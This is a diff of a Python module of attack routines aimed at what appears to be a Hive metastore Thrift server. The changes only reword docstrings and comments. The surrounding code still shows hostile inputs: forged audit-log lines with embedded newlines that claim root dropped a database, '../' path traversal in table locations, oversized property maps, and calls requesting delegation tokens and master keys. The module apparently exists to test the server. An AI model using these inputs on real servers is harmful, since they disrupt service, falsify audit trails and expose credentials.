@@ -1,4 +1,4 @@
-"""Calls that keep a server busy: patterns, filters, expressions, and others of which a single call suffices."""
+"""Calls that keep a server busy: patterns, filters, expressions, and other calls that have an effect alone."""
 
 from __future__ import annotations
 
@@ -73,7 +73,7 @@ def attack_by_expression(client: Client) -> None:
 
 
 def attack_by_properties(client: Client) -> None:
-    protocol: Any = vars(client)["_iprot"]  # the other client does not know these methods
+    protocol: Any = vars(client)["_iprot"]  # the other client does not have these methods
     client = Client(protocol)
     maps = {"tableA1.x": "a" * 4_000}
     client.set_properties(ttypes.PropertySetRequest("hms", maps))
@@ -99,7 +99,7 @@ PATTERN_ATTACKS: tuple[CallAttack, ...] = (
 
 
 def attack_by_tokens(client: Client) -> None:
-    """Asks for the keys of delegation tokens, and for tokens."""
+    """Requests the keys of delegation tokens, and tokens."""
     for ask in (
         client.get_master_keys,
         client.get_all_token_identifiers,
@@ -112,7 +112,7 @@ def attack_by_tokens(client: Client) -> None:
 
 
 def attack_by_forged_lines(client: Client) -> None:
-    """Names that forge lines of the audit log, and fill it."""
+    """Names that forge lines of the audit log or fill it."""
     forged = "x\n2026-01-01 00:00:00,000 INFO audit ugi=root\tip=1.1.1.1\tcmd=drop_database\t"
     client.set_ugi(forged * 50, [forged] * 50)
     with contextlib.suppress(TException):
@@ -120,7 +120,7 @@ def attack_by_forged_lines(client: Client) -> None:
 
 
 def attack_by_locations(client: Client) -> None:
-    """Tables above their directory, at two colons, on hosts that are not allowed."""
+    """Tables above their directory, at two colons, and on hosts that are not allowed."""
     for location in (
         "x/..",
         "../../..",
